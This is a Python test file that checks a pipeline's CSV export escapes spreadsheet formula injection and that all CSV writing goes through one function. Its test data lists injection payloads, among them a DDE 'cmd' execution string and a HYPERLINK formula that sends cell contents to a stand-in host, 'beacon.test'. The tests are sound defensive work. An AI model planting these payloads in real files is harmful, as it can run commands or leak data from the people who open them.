"""Every CSV that we write is safe to open in a spreadsheet: all of them go through one function."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from pipeline.export_files import as_csv

ROOT = Path(__file__).parents[2]
WRITERS = {"writer", "DictWriter", "to_csv", "write_csv"}
# As OWASP lists them, and those that spreadsheets skip before a formula.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1)",
    '=HYPERLINK("http://beacon.test?"&A1,"go")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u2068=1+1\u2069",
]


def calls(path: Path) -> Iterator[str]:
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if isinstance(node, ast.Call):
            function = node.func
            yield getattr(function, "attr", getattr(function, "id", ""))


def test_one_module_writes_csv() -> None:
    found = {
        path.relative_to(ROOT).as_posix()
        for part in ("pipeline", "studio")
        for path in (ROOT / part).rglob("*.py")
        if WRITERS & set(calls(path))
    }
    assert found == {"pipeline/export_files.py"}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_and_no_title_begins_a_formula(text: str) -> None:
    content, changed = as_csv([{text: text, "plain": "a"}])
    [title, _], [cell, plain] = csv.reader(io.StringIO(content, newline=""))
    assert (title, cell, plain, changed) == (f"'{text}", f"'{text}", "a", 2)


def test_other_texts_and_numbers_stay() -> None:
    content, changed = as_csv([{"a": "1 = 1", "b": -1.5, "c": "'=", "d": None}])
    assert content.splitlines()[1] == "1 = 1,-1.5,'=,"
    assert not changed
